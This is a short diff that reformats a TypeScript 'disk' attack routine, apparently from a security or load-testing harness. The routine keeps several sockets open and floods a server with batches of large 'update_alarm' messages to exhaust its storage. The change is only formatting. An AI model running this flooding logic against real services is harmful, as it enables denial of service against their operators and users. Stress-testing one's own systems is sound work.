@@ -17,8 +17,12 @@ export const disk: Attack = {
     const alarm_id = /"id":"([^"]+)"/.exec(body)?.[1] ?? 'none';
     await attacker.over(SOCKETS, async (lane) => {
       const socket = sockets[lane];
-      if (!socket?.isOpen) return void ((sockets[lane] = (await attacker.socket())!), sockets[lane] ?? (await pause(100)));
-      await sendBatch(socket, Array.from({ length: BATCH }, () => ({ type: 'update_alarm', payload: { alarm_id, ...LARGE } })));
+      if (!socket?.isOpen)
+        return void ((sockets[lane] = (await attacker.socket())!), sockets[lane] ?? (await pause(100)));
+      await sendBatch(
+        socket,
+        Array.from({ length: BATCH }, () => ({ type: 'update_alarm', payload: { alarm_id, ...LARGE } })),
+      );
     });
   },
 };
